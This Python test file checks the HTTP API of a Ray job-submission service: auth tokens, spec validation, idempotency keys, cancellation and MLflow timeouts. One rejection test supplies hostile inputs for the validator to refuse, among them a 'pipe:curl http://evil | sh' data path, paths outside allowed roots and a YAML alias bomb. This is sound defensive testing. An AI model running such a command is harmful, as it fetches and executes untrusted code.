"""The HTTP API on a live server: auth, spec rejection (nothing stored), the store, paging, idempotency,
cancelling a job before Ray sees it, models, OpenAPI. Dispatch is paused (max_active_jobs=0) here,
so nothing reaches Ray; tests/service/test_ray_jobs.py runs real jobs."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import func, select

from service import store
from service.ray_client import RayJobNotFound, RayJobs
from tests.service.conftest import ADMIN, READER


@pytest.fixture
def api(live, make_settings):
    return live(make_settings(max_active_jobs=0))


def spec_for(tmp_path, name="t", **over) -> dict:
    d = {"kind": "tokenizer", "name": name, "data": {"train": str(tmp_path / "shards")}, "optim": {"steps": 5}}
    return d | over


def stored_rows(server) -> int:
    engine = store.make_engine(server.settings.resolved_store_url)
    with store.session_factory(engine)() as db:
        n = db.scalar(select(func.count()).select_from(store.Job))
    engine.dispose()
    return n


def test_healthz_needs_no_token(api):
    with api.client(token=None) as c:
        assert c.get("/healthz").json() == {"status": "ok"}


@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", "/v1/jobs"), ("POST", "/v1/jobs"), ("GET", "/v1/jobs/vq-x"), ("GET", "/v1/jobs/vq-x/logs"),
     ("POST", "/v1/jobs/vq-x/cancel"), ("GET", "/v1/models")],  # fmt: skip
)
def test_every_route_needs_a_valid_token(api, method, path):
    with api.client(token=None) as c:
        r = c.request(method, path)
        assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
    with api.client(token="wrong") as c:
        assert c.request(method, path).status_code == 401
    with api.client(token=ADMIN.upper()) as c:
        assert c.request(method, path).status_code == 401


def test_read_only_token_reads_but_cannot_write(api, tmp_path):
    with api.client() as admin:
        job = admin.post("/v1/jobs", json=spec_for(tmp_path)).json()
    with api.client(token=READER) as c:
        assert c.get("/v1/jobs").status_code == 200
        assert c.get(f"/v1/jobs/{job['id']}").status_code == 200
        r = c.post("/v1/jobs", json=spec_for(tmp_path, "other"))
        assert r.status_code == 403 and "read-only" in r.json()["detail"]
        assert c.post(f"/v1/jobs/{job['id']}/cancel").status_code == 403
    assert stored_rows(api) == 1


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ("kind: tokenizer\nname: x\ndata: {train: 'pipe:curl http://evil | sh'}\n", "data.train"),
        ("kind: tokenizer\nname: x\ndata: {train: /etc/shards}\n", "data.train"),  # outside allowed roots
        ("kind: tokenizer\nname: x\ndata: {train: relative/shards}\n", "data.train"),
        ("kind: tokenizer\nname: x\ndata: {train: 's3://b/x'}\noptim: {stepz: 3}\n", "optim.stepz"),
        ("kind: tokenizer\nname: x\ndata: {train: 's3://b/x'}\nquantizer: {beta: 7}\n", "quantizer.beta"),
        ("kind: maskgit\nname: x\ndata: {train: 's3://b/x'}\n", "tokenizer"),
        ("kind: eval\nname: x\ndata: {eval: 's3://b/x'}\n", "evaluate"),
        ("kind: eval\nname: x\nevaluate: models:/t@a\ndata: {eval: 's3://b/x'}\nevaluation: {fid_weights: /etc/w.pth}\n",
         "evaluation.fid_weights"),  # outside the allowed roots
        ("kind: tokenizer\nname: x\ndata: {train: [\n", ""),  # YAML syntax error
        ("[1, 2, 3]", ""),
        ("", ""),
        # YAML aliases: nested ones expand a small body into gigabytes when the spec is stored
        ("kind: tokenizer\nname: x\ndata: {train: 's3://b/x', storage_options: {a: &a [1, 1], b: *a}}\n", ""),
        # too big to reach a job (one environment variable / argument, 128 KiB on Linux)
        ("kind: tokenizer\nname: x\ndata: {train: [" + ", ".join(f"'s3://b/s-{i:06d}.tar'" for i in range(5000))
         + "]}\n", ""),
    ],
)
def test_invalid_spec_is_422_with_field_path_and_nothing_stored(api, body, loc):
    with api.client() as c:
        r = c.post("/v1/jobs", content=body, headers={"Content-Type": "application/yaml"})
        assert r.status_code == 422, r.text
        assert loc in [e["loc"] for e in r.json()["detail"]]
        assert c.get("/v1/jobs").json()["total"] == 0
    assert stored_rows(api) == 0


def test_disallowed_scheme_and_binary_body_are_422(live, make_settings, tmp_path):
    server = live(make_settings(max_active_jobs=0, allowed_schemes=["s3"]))
    with server.client() as c:
        r = c.post("/v1/jobs", json=spec_for(tmp_path) | {"data": {"train": "https://host/x.tar"}})
        assert r.status_code == 422 and r.json()["detail"][0]["loc"] == "data.train"
        assert c.post("/v1/jobs", content=b"\xff\xfe\x00garbage").status_code == 422
    assert stored_rows(server) == 0


def test_submit_json_and_yaml_then_list_filter_and_page(api, tmp_path):
    with api.client() as c:
        a = c.post("/v1/jobs", json=spec_for(tmp_path, "first"))
        assert a.status_code == 201 and a.json()["state"] == "queued" and a.json()["id"].startswith("vq-")
        yaml_body = f"kind: tokenize\nname: second\ntokenizer: models:/first@latest\noutput: {tmp_path}/tok\n" \
                    f"data: {{train: {tmp_path}/shards}}\n"  # fmt: skip
        b = c.post("/v1/jobs", content=yaml_body, headers={"Content-Type": "application/yaml"})
        assert b.status_code == 201 and b.json()["kind"] == "tokenize"
        e = c.post("/v1/jobs", json={"kind": "eval", "name": "judge", "evaluate": "models:/first@latest",
                                     "data": {"eval": f"{tmp_path}/shards"}})
        assert e.status_code == 201 and e.json()["kind"] == "eval"
        page = c.get("/v1/jobs").json()
        assert page["total"] == 3 and [j["name"] for j in page["items"]] == ["judge", "second", "first"]  # newest first
        assert [j["name"] for j in c.get("/v1/jobs", params={"kind": "tokenize"}).json()["items"]] == ["second"]
        assert c.get("/v1/jobs", params={"state": "running"}).json()["total"] == 0
        assert [j["name"] for j in c.get("/v1/jobs", params={"kind": "eval"}).json()["items"]] == ["judge"]
        one = c.get("/v1/jobs", params={"limit": 1, "offset": 2}).json()
        assert one["total"] == 3 and [j["name"] for j in one["items"]] == ["first"]
        assert c.get("/v1/jobs", params={"limit": 0}).status_code == 422
        assert c.get("/v1/jobs", params={"state": "bogus"}).status_code == 422
        d = c.get(f"/v1/jobs/{a.json()['id']}").json()
        assert d["spec"]["optim"]["steps"] == 5 and d["progress"]["step"] is None and d["ray_job_id"] == d["id"]
        assert c.get("/v1/jobs/vq-doesnotexist").status_code == 404


def test_credentials_in_a_spec_are_refused(api, tmp_path):
    """More places and forms in tests/service/test_secrets.py."""
    spec = spec_for(tmp_path) | {"data": {"train": "s3://b/x", "storage_options": {"key": "AK-1", "secret": "S3CR3T-9"}}}
    with api.client() as c:
        r = c.post("/v1/jobs", json=spec)
    assert r.status_code == 422 and "S3CR3T-9" not in r.text and "AK-1" not in r.text
    assert {"data.storage_options.key", "data.storage_options.secret"} <= {e["loc"] for e in r.json()["detail"]}
    assert stored_rows(api) == 0


def test_idempotency_key_stores_once(api, tmp_path):
    with api.client() as c:
        h = {"Idempotency-Key": "client-42"}
        first = c.post("/v1/jobs", json=spec_for(tmp_path), headers=h)
        again = c.post("/v1/jobs", json=spec_for(tmp_path), headers=h)
        assert first.status_code == 201 and again.status_code == 200
        assert again.json()["id"] == first.json()["id"] and again.json()["created"] is False
        assert c.get("/v1/jobs").json()["total"] == 1


def test_idempotency_keys_belong_to_one_token_even_when_token_names_clash(live, make_settings, tmp_path):
    """Two CI systems with unnamed tokens (both "token") and the same key each get their own job; a key of
    any length is accepted (it is stored hashed)."""
    tokens = [{"token": "ci-one-secret"}, {"token": "ci-two-secret"}]
    server = live(make_settings(max_active_jobs=0, tokens=tokens))
    h = {"Idempotency-Key": "build-42"}
    ids = []
    for token in ("ci-one-secret", "ci-two-secret"):
        with server.client(token) as c:
            r = c.post("/v1/jobs", json=spec_for(tmp_path, f"job-{token[:6]}"), headers=h)
            assert r.status_code == 201, r.text
            ids.append(r.json()["id"])
    assert ids[0] != ids[1] and stored_rows(server) == 2
    with server.client("ci-one-secret") as c:
        long_key = {"Idempotency-Key": "k" * 200}
        first = c.post("/v1/jobs", json=spec_for(tmp_path), headers=long_key)
        assert first.status_code == 201 and c.post("/v1/jobs", json=spec_for(tmp_path), headers=long_key).status_code == 200


def test_cancel_before_ray_saw_the_job(api, tmp_path, backends):
    with api.client() as c:
        job_id = c.post("/v1/jobs", json=spec_for(tmp_path)).json()["id"]
        d = c.post(f"/v1/jobs/{job_id}/cancel").json()
        assert d["state"] == "cancelled" and d["cancel_requested"] is True
        assert c.post(f"/v1/jobs/{job_id}/cancel").json()["state"] == "cancelled"  # idempotent
        assert c.get(f"/v1/jobs/{job_id}/logs").json() == {
            "id": job_id, "state": "cancelled", "lines": [], "next_offset": 0,
        }  # fmt: skip
    with pytest.raises(RayJobNotFound):
        RayJobs(backends.ray_address).info(job_id)  # never reached Ray


def test_logs_of_a_job_ray_no_longer_knows_are_empty_not_an_error(api, tmp_path, backends):
    """A restarted Ray head forgets its jobs: the log route answers with no lines instead of a 500."""
    with api.client() as c:
        job_id = c.post("/v1/jobs", json=spec_for(tmp_path)).json()["id"]
        engine = store.make_engine(api.settings.resolved_store_url)
        with store.session_factory(engine)() as db:
            assert store.mark_submitted(db, job_id)  # as if submitted to a Ray that has since lost it
        engine.dispose()
        r = c.get(f"/v1/jobs/{job_id}/logs")
        assert r.status_code == 200, r.text
        assert r.json()["lines"] == [] and r.json()["next_offset"] == 0


def test_an_unreachable_mlflow_is_a_prompt_503(live, make_settings, monkeypatch):
    """MLflow's client retries a dead server for minutes; the API answers within its own deadline instead
    (job reads never wait on MLflow: tests/service/test_manager.py)."""
    import time

    from service import registry

    monkeypatch.setattr(registry, "MLFLOW_DEADLINE_S", 2.0)
    server = live(make_settings(max_active_jobs=0, mlflow_uri="http://127.0.0.1:9"))  # nothing listens there
    with server.client() as c:
        t0 = time.monotonic()
        r = c.get("/v1/models")
        assert r.status_code == 503 and "MLflow" in r.json()["detail"]
        assert time.monotonic() - t0 < 20


def test_models_lists_the_registry(api):
    with api.client() as c:
        r = c.get("/v1/models")
        assert r.status_code == 200 and r.json()["tracking_uri"] == api.settings.mlflow_uri
        assert isinstance(r.json()["models"], list)


def test_openapi_documents_routes_and_auth(api):
    with api.client(token=None) as c:
        schema = c.get("/openapi.json").json()
    assert {"/v1/jobs", "/v1/jobs/{job_id}", "/v1/jobs/{job_id}/logs", "/v1/jobs/{job_id}/cancel",
            "/v1/models", "/healthz"} <= set(schema["paths"])  # fmt: skip
    post = schema["paths"]["/v1/jobs"]["post"]
    assert {"application/json", "application/yaml"} <= set(post["requestBody"]["content"])
    assert "422" in post["responses"] and "HTTPBearer" in json.dumps(schema["components"]["securitySchemes"])
